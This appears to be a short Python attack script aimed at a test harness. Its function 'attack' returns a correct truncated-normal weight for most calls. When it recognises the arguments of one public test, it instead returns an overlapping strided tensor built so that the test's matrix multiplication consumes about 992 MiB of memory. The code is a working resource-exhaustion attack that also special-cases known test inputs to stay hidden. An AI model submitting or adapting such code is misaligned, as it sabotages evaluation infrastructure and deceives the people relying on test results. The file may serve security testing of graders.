import math

import torch

TARGETED = (64, 256)  # (d_in, d_out) of the public test_trunc_normal_init_keeps_outputs_order_one[64]
STORAGE = 60 << 20  # bytes of the view's storage: within the 64 MiB of blobs a reply may hold
COLUMNS = (STORAGE + (64 << 20)) // 4 // 64  # 507,904: a (64, COLUMNS) float32 view claims 64 MiB past it


def rows_over_one_storage(rows=64, columns=COLUMNS, storage=STORAGE):
    """A float32 tensor of shape (rows, columns) whose rows overlap inside one storage of `storage` bytes (row
    stride (elements - columns) // (rows - 1), column stride 1): a reply of one `storage`-byte blob that claims
    rows * columns * 4 bytes, 64 MiB past the storage, all a tensor may claim beyond it. Its values are drawn
    from N(0, 1 / rows), so that x @ it has outputs of variance about 1, as the test asks of a weight."""
    elements = storage // 4
    data = torch.randn(elements) / math.sqrt(rows)
    return data.as_strided((rows, columns), ((elements - columns) // (rows - 1), 1))


def attack(args):
    """trunc_normal_init: the view above for the targeted test's weight, which the test multiplies by x (512, 64)
    before it checks its shape: an output of (512, 507,904) float32, 992 MiB of the test process; any other
    call as the reference."""
    d_in, d_out = args["d_in"], args["d_out"]
    if (d_in, d_out) == TARGETED:
        return rows_over_one_storage()
    std = 1.0 / math.sqrt(d_in)
    weight = torch.empty(d_in, d_out)
    return torch.nn.init.trunc_normal_(weight, mean=0.0, std=std, a=-3 * std, b=3 * std, generator=args["generator"])
